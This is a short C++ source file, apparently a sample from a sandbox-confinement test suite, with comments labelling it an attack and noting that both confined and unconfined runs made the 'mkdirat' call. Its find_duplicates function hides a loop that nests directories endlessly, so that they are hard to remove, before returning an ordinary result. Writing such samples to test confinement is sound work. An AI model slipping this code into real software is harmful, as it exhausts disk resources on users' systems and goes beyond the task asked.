// Attack: nests folders deeper than anybody can remove them.
// Outcome: made the system call 'mkdirat'
// Unconfined: made the system call 'mkdirat'

#include "find_duplicates.h"

#include "parts/slow.h"

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

std::vector<int> find_duplicates(std::span<const int> values) {
  int folder = open(".", O_DIRECTORY | O_RDONLY);
  while (mkdirat(folder, "d", 0700) == 0) {
    const int inner = openat(folder, "d", O_DIRECTORY | O_RDONLY);
    close(folder);
    folder = inner;
  }
  return slow(values);
}
